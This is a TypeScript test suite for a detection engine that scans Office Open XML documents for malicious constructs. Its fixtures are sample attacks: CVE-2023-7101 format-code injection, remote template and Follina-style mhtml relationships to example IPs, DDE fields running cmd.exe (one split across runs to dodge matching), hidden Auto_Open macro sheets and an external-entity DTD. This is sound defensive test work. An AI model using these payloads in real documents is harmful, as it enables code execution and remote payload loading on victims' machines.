import assert from 'node:assert/strict';
import { Buffer } from 'node:buffer';
import { describe, it } from 'node:test';
import type { Finding } from '../../../core/index.js';
import type { EngineSubject } from '../../engine.js';
import { createOfficeEngine } from './index.js';

const engine = createOfficeEngine();
const PACKAGE = ['[Content_Types].xml', '_rels/.rels', 'xl/workbook.xml', 'xl/styles.xml', 'xl/worksheets/sheet1.xml'];

async function inspect(xml: string, name: string, members: readonly string[] = PACKAGE): Promise<readonly Finding[]> {
  const content = Buffer.from(xml, 'utf8');
  const subject: EngineSubject = {
    artifact: { path: '2/3', declaredType: 'application/octet-stream', size: content.length, sha256: '0'.repeat(64) },
    content,
    rawName: name,
    container: { path: '2', detectedType: 'application/zip', detectedExtension: 'zip', memberNames: members },
    depth: 1,
  };
  return engine.inspect(subject);
}
const symbols = (findings: readonly Finding[]): string[] => findings.map((f) => f.symbol).sort();

const STYLES_HEAD = '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<styleSheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">';

describe('OOXML engine', () => {
  it('flags the CVE-2023-7101 format in styles.xml, entity-encoded and namespace-prefixed, wherever the part lives', async () => {
    const xml = `<?xml version="1.0"?><x:styleSheet xmlns:x="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><x:numFmts count="1"><x:numFmt numFmtId="164" formatCode="[&gt;123;system(&apos;echo hello&apos;)]123"/></x:numFmts></x:styleSheet>`;
    for (const name of ['xl/styles.xml', 'xl/other.xml']) {
      const findings = await inspect(xml, name);
      assert.deepEqual(symbols(findings), ['OFFICE_NUMFMT_INJECTION'], name);
      assert.ok((findings[0]?.score ?? 0) >= 40);
      assert.match(findings[0]?.detail ?? '', /system\('echo hello'\)/);
    }
  });

  it('raises nothing for a legitimate styles part with many formats', async () => {
    const formats = ['#,##0.00\\ &quot;€&quot;', '[$-409]mmmm d, yyyy;@', '[Red][&lt;=100];[Blue][&gt;100]', '_-* #,##0.00\\ [$€-407]_-;\\-* #,##0.00\\ [$€-407]_-;_-* &quot;-&quot;??\\ [$€-407]_-;_-@_-', '[h]:mm:ss', '0.0%', 'dd/mm/yyyy\\ hh:mm'];
    const xml = `${STYLES_HEAD}<numFmts count="${formats.length}">${formats.map((f, i) => `<numFmt numFmtId="${164 + i}" formatCode="${f}"/>`).join('')}</numFmts><fonts count="1"><font><sz val="11"/></font></fonts></styleSheet>`;
    assert.deepEqual(await inspect(xml, 'xl/styles.xml'), []);
  });

  it('flags remote template injection and keeps the target escaped', async () => {
    const xml = '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="http://203.0.113.7/t.dotm&#10;x" TargetMode="External"/></Relationships>';
    const findings = await inspect(xml, 'word/_rels/settings.xml.rels');
    assert.deepEqual(symbols(findings), ['OFFICE_REMOTE_TEMPLATE']);
    assert.match(findings[0]?.detail ?? '', /http:\/\/203\.0\.113\.7\/t\.dotm\\x0ax/);
  });

  it('flags Follina-style protocol handlers and other external relationships; external hyperlinks stay quiet', async () => {
    const rels = (type: string, target: string): string =>
      `<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId9" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${type}" Target="${target}" TargetMode="External"/></Relationships>`;
    assert.deepEqual(symbols(await inspect(rels('oleObject', 'mhtml:http://198.51.100.2/x.html!x-usc:http://198.51.100.2/x.html'), 'word/_rels/document.xml.rels')), ['OFFICE_DANGEROUS_URI', 'OFFICE_REMOTE_TEMPLATE']);
    assert.deepEqual(symbols(await inspect(rels('image', 'http://198.51.100.2/pixel.png'), 'word/_rels/document.xml.rels')), ['OFFICE_EXTERNAL_RELATIONSHIP']);
    assert.deepEqual(symbols(await inspect(rels('hyperlink', 'https://example.org/'), 'word/_rels/document.xml.rels')), []);
    assert.deepEqual(symbols(await inspect(rels('hyperlink', '\\\\198.51.100.2\\share\\x'), 'word/_rels/document.xml.rels')), ['OFFICE_DANGEROUS_URI']);
  });

  it('finds DDE fields split across runs, in simple fields, and in formulas', async () => {
    const split = '<w:document xmlns:w="w"><w:body><w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText> DD</w:instrText></w:r><w:r><w:instrText>EAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k echo hello"</w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p></w:body></w:document>';
    assert.deepEqual(symbols(await inspect(split, 'word/document.xml')), ['OFFICE_DDE']);
    const simple = '<w:document xmlns:w="w"><w:fldSimple w:instr=" DDE cmd &quot;/c echo hello&quot; "/></w:document>';
    assert.deepEqual(symbols(await inspect(simple, 'word/document.xml')), ['OFFICE_DDE']);
    const formula = `<worksheet><sheetData><row r="1"><c r="A1"><f>cmd|' /c echo hello'!A0</f></c><c r="A2"><f>CONCAT("a|'b'!",B1)</f></c></row></sheetData></worksheet>`;
    const found = await inspect(formula, 'xl/worksheets/sheet1.xml');
    assert.deepEqual(symbols(found), ['OFFICE_DDE']);
    assert.match(found[0]?.detail ?? '', /cmd\|/);
    const ordinary = '<w:document xmlns:w="w"><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText> PAGE \\* MERGEFORMAT </w:instrText></w:r><w:r><w:t>DDE is a protocol</w:t></w:r></w:document>';
    assert.deepEqual(await inspect(ordinary, 'word/document.xml'), []);
  });

  it('reads macro and Excel 4.0 content types, hidden sheets and Auto_Open names', async () => {
    const types = '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/><Override PartName="/xl/macrosheets/sheet2.xml" ContentType="application/vnd.ms-excel.macrosheet+xml"/></Types>';
    assert.deepEqual(symbols(await inspect(types, '[Content_Types].xml')), ['OFFICE_MACRO_ENABLED', 'OFFICE_XLM_MACRO']);
    const members = [...PACKAGE, 'xl/macrosheets/sheet2.xml'];
    const book = '<workbook><sheets><sheet name="Sheet1" sheetId="1" r:id="rId1"/><sheet name="Macro1" sheetId="2" state="veryHidden" r:id="rId2"/></sheets><definedNames><definedName name="_xlnm.Auto_Open">Macro1!$A$1</definedName></definedNames></workbook>';
    assert.deepEqual(symbols(await inspect(book, 'xl/workbook.xml', members)), ['OFFICE_XLM_AUTOEXEC', 'OFFICE_XLM_HIDDEN']);
    // A hidden sheet without macro sheets is ordinary.
    const plain = '<workbook><sheets><sheet name="Lookup" sheetId="1" state="hidden" r:id="rId1"/></sheets></workbook>';
    assert.deepEqual(await inspect(plain, 'xl/workbook.xml'), []);
  });

  it('reports a vbaProject.bin member once, on the content-types part', async () => {
    const types = '<Types><Default Extension="xml" ContentType="application/xml"/></Types>';
    const members = [...PACKAGE, 'word/vbaProject.bin'];
    assert.deepEqual(symbols(await inspect(types, '[Content_Types].xml', members)), ['OFFICE_MACRO_ENABLED']);
    assert.deepEqual(await inspect('<w:document/>', 'word/document.xml', members), []);
  });

  it('flags a DTD inside a package part but not in a stand-alone XML attachment', async () => {
    const xml = '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "http://198.51.100.2/">]><styleSheet/>';
    assert.deepEqual(symbols(await inspect(xml, 'xl/styles.xml')), ['OFFICE_XML_DTD']);
    const content = Buffer.from('<?xml version="1.0"?><!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "x"><svg/>');
    const alone = await engine.inspect({ artifact: { path: '2', declaredType: 'image/svg+xml', size: content.length, sha256: '0'.repeat(64) }, content });
    assert.deepEqual(alone, []);
  });

  it('reads UTF-16 parts and ignores content that is not XML', async () => {
    const xml = `\ufeff${STYLES_HEAD}<numFmts><numFmt numFmtId="164" formatCode="[=1;qx{id}]0"/></numFmts></styleSheet>`;
    const content = Buffer.from(xml, 'utf16le');
    const subject: EngineSubject = { artifact: { path: '2/1', declaredType: 'application/xml', size: content.length, sha256: '0'.repeat(64) }, content, container: { path: '2', memberNames: PACKAGE } };
    assert.deepEqual(symbols(await engine.inspect(subject)), ['OFFICE_NUMFMT_INJECTION']);
    assert.deepEqual(await inspect('PK\u0003\u0004 not xml <numFmt formatCode="[>1;x]"/>', 'xl/styles.xml'), []);
  });
});
